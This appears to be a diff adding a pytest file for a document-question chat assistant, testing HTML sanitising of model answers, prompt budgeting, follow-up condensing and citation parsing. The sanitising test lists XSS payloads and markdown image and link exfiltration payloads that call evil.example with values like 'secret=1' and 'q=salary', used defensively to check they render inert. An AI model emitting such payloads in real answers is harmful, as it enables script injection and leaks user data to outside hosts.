@@ -1,0 +1,102 @@
+"""Pure parts of the chat: answer sanitising, the prompt budget, follow-up condensing."""
+
+import pytest
+
+from assistant.prompts import (
+    SYSTEM_PROMPT,
+    Source,
+    build_prompt,
+    condense_question,
+    referenced_numbers,
+)
+from assistant.rendering import ALLOWED_TAGS, answer_html
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>window.__pwned=1</script>",
+        '<img src=x onerror="window.__pwned=1">',
+        '<a href="javascript:alert(1)">click</a>',
+        "[click](javascript:alert(1))",
+        "![tracker](https://evil.example/pixel.png?secret=1)",
+        '<svg onload="alert(1)"></svg>',
+        '<iframe src="https://evil.example"></iframe>',
+        "[exfiltrate](https://evil.example/?q=salary)",
+        '<p style="background:url(https://evil.example)">x</p>',
+    ],
+)
+def test_answers_render_hostile_markup_inert(hostile):
+    html = answer_html(f"Before {hostile} after")
+    # Parse what the browser would: only allow-listed tags, no attribute but our own links.
+    tags = _tags(html)
+    assert {tag for tag, _ in tags} <= ALLOWED_TAGS, html
+    for tag, attrs in tags:
+        for name, value in attrs:
+            assert tag == "a" and name in ("href", "rel"), html
+            if name == "href":
+                assert value.startswith("/documents/"), html
+    assert "Before" in html and "after" in html
+
+
+def _tags(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
+    from html.parser import HTMLParser
+
+    found: list = []
+
+    class Collect(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, attrs))
+
+    Collect().feed(html)
+    return found
+
+
+def test_answers_keep_markdown_and_links_to_our_own_documents():
+    html = answer_html("**Leave**: 30 days [1].\n\n- one\n- two\n\n[policy](/documents/4/#chunk-2)")
+    assert "<strong>Leave</strong>" in html
+    assert "<li>one</li>" in html
+    assert 'href="/documents/4/#chunk-2"' in html
+
+
+def test_protocol_relative_links_are_not_our_documents():
+    assert "href" not in answer_html("[x](//evil.example/documents/1)")
+
+
+def count_words(text: str) -> int:
+    return len(text.split())
+
+
+def test_prompt_fits_the_budget_and_never_cuts_a_source():
+    sources = [Source(n, f"Doc {n}", "Section", None, "word " * 100) for n in range(1, 6)]
+    fixed = count_words(SYSTEM_PROMPT) + count_words("How long?") + 40
+    per_source = 100 + 5 + 2  # text, "[n] Doc n — Section", separator
+    budget = fixed + 2 * per_source + 50  # room for two sources and a half
+    prompt = build_prompt(
+        question="How long?", sources=sources, count_tokens=count_words, budget_tokens=budget
+    )
+    assert prompt.prompt_tokens <= budget
+    assert [s.number for s in prompt.sources] == [1, 2]
+    assert prompt.messages[0] == ("system", SYSTEM_PROMPT)
+    user = prompt.messages[1][1]
+    assert "[1] Doc 1 — Section" in user and "[3]" not in user
+    assert user.endswith("Question: How long?")
+
+
+def test_prompt_without_sources_still_asks_the_question():
+    prompt = build_prompt(question="Q?", sources=[], count_tokens=count_words, budget_tokens=100)
+    assert prompt.sources == [] and prompt.messages[1][1] == "Question: Q?"
+
+
+def test_follow_ups_are_completed_from_the_previous_question():
+    previous = ["What is the hotel limit in Leipzig?"]
+    assert condense_question("And in Munich?", previous) == (
+        "What is the hotel limit in Leipzig? And in Munich?"
+    )
+    standalone = "How many days of annual leave do part-time employees get per year?"
+    assert condense_question(standalone, previous) == standalone
+    assert condense_question("Hi", []) == "Hi"
+
+
+def test_referenced_numbers():
+    assert referenced_numbers("See [1] and [3], not [x].") == {1, 3}
